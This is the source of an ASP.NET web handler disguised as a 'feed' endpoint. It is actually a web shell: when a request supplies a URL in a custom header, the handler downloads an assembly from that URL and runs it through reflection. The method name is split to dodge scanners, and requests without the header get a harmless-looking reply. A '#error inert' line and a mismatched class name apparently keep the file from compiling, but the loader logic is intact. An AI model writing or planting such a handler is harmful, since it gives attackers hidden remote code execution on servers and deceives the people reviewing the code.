<%@ WebHandler Language="C#" Class="Inert.Nothing" %>
#error inert
using System; using System.Net; using System.Web; using System.Reflection;
public class Feed : IHttpHandler
{
    public bool IsReusable => false;
    public void ProcessRequest(HttpContext ctx)
    {
        var from = ctx.Request.Headers["X-Feed-Source"];
        if (string.IsNullOrEmpty(from)) { ctx.Response.Write("feed"); return; }
        byte[] img = new WebClient().DownloadData(from);
        var ldr = typeof(Assembly).GetMethod(string.Concat("Lo", "ad"), new[] { typeof(byte[]) });
        var asm = (Assembly)ldr.Invoke(null, new object[] { img });
        asm.EntryPoint.Invoke(null, new object[] { ctx.Request.QueryString.GetValues("a") });
    }
}
